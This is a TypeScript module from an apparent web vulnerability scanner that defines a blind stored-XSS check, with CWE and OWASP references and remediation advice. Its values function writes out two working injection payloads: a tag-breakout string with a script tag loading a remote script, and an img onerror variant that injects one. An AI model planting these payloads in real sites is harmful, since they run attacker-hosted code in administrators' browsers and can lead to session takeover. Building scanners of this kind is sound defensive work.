import type { InjectionPoint } from '../active-check.ts';
import { pointInWords } from '../probing/point-words.ts';
import type { OutOfBandCheck } from './out-of-band-check.ts';

/** What is written down and shown to somebody else, later: texts, and what a log has of a visitor. */
function isText({ kind, value, submission }: InjectionPoint): boolean {
  if (kind === 'client') return submission === undefined;
  if (kind !== 'field' && kind !== 'query') return false;
  return !/^-?[\d.]+$|^(?:true|false)$|^https?:/.test(value);
}

/** Leaves whatever the value stands in. */
const out = `'"></textarea></title></script>`;

/**
 * Blind XSS. A text that is stored holds a script of an address of the stage, once as an element and once for pages that
 * insert markup by `innerHTML`, where such an element does not run. Fires once a browser of whoever looks after the site
 * shows the text; silent where it is encoded. The script tells the address of that page without its query, and its title:
 * no cookies, nothing of the content. Certain where it ran, firm where it was only fetched.
 */
export const blindXss: OutOfBandCheck = {
  id: 'blind-xss',
  title: 'Blind XSS',
  score: 8,
  confidence: 'firm',
  cwe: [79],
  references: [
    'https://owasp.org/www-community/attacks/xss/',
    'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html',
  ],
  risk: 'A script stored by an attacker runs in the session of whoever opens the page that shows it, often an administrator in an internal application. It can read what they see, act on their behalf and may take over their sessions.',
  recommendation:
    "Encode stored values for the context in which they are shown, in internal tools and log viewers as well; where markup is required, use an HTML sanitizer with an allowlist of elements. As a second line of defence, send a Content Security Policy (CSP) without 'unsafe-inline' that names the sources of scripts. Delete the entries that the scan has left: they contain its mark.",
  proof: 'script',
  profile: 'intrusive',
  appliesTo: isText,
  values: (_, { url, mark }) => [
    `${mark}${out}<script src=${url}></script>`,
    `${mark}${out}<img src=x onerror="var s=document.createElement('script');s.src='${url}';document.head.append(s)">`,
  ],
  words: (point) =>
    `${pointInWords(point)} is stored and shown on a page, where a browser loads a script that it holds.`,
};
